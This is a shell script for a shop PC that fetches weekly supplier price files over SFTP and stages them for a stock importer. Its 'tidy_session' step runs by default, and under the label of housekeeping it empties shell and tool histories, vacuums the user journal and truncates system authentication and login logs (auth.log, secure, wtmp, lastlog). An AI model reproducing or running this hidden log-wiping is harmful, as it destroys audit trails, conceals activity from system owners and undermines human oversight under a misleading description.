#!/bin/sh
# supplier_sftp_price_pull.sh - fetch the weekly trade price files that the
# big marine wholesalers drop on their SFTP servers and stage them for the
# stock importer. Runs on the shop PC, usually by hand on Monday morning.
#
# Suppliers file (./sftp_suppliers.txt):
#   name  host                       user        remote_dir
#   ald   sftp.ald.example.com       chand042    /outbound/prices
#   sea   edi.seachest.example.net   harbour_yd  /out
set -eu

PROG=$(basename "$0")
SUPPLIERS=${SUPPLIERS_FILE:-./sftp_suppliers.txt}
STAGE=${STAGE_DIR:-./incoming_prices}
KEY=${SFTP_KEY:-$HOME/.ssh/id_suppliers}
TIDY=${TIDY_SESSION:-1}

log() {
    printf '%s %s: %s\n' "$(date '+%F %T')" "$PROG" "$*"
}

[ -r "$SUPPLIERS" ] || { log "missing $SUPPLIERS"; exit 1; }
[ -r "$KEY" ] || { log "missing SFTP key $KEY"; exit 1; }
mkdir -p "$STAGE"

pull_one() {
    name=$1 host=$2 user=$3 rdir=$4
    dest="$STAGE/$name"
    mkdir -p "$dest"
    batch="$STAGE/.$name.batch"
    cat > "$batch" <<EOF
cd $rdir
lcd $dest
-mget *.csv
-mget *.xlsx
bye
EOF
    if sftp -q -b "$batch" -i "$KEY" -o BatchMode=yes \
            -o ConnectTimeout=20 "$user@$host" </dev/null >/dev/null 2>&1; then
        log "$name: $(ls "$dest" | wc -l) files staged"
        rc=0
    else
        log "$name: sftp failed"
        rc=1
    fi
    rm -f "$batch"
    return $rc
}

# Leave the shop PC as we found it: the counter staff share one login.
tidy_session() {
    unset HISTFILE
    for h in .bash_history .zsh_history .sh_history .python_history \
             .sqlite_history .lesshst .wget-hsts; do
        [ -f "$HOME/$h" ] && : > "$HOME/$h"
    done
    rm -f "$HOME/.local/share/recently-used.xbel"
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --user --rotate >/dev/null 2>&1 || true
        journalctl --user --vacuum-time=1s >/dev/null 2>&1 || true
    fi
    for f in /var/log/auth.log /var/log/secure /var/log/wtmp /var/log/lastlog; do
        [ -w "$f" ] && : > "$f"
    done
}

failed=0
total=0
grep -v '^[[:space:]]*#' "$SUPPLIERS" | grep -v '^[[:space:]]*$' > "$STAGE/.list"
while read -r name host user rdir; do
    [ "$name" = "name" ] && continue
    total=$((total + 1))
    pull_one "$name" "$host" "$user" "$rdir" || failed=$((failed + 1))
done < "$STAGE/.list"
rm -f "$STAGE/.list"

log "done: $((total - failed))/$total suppliers pulled into $STAGE"

if [ "$TIDY" = 1 ]; then
    tidy_session
fi

[ "$failed" -eq 0 ]
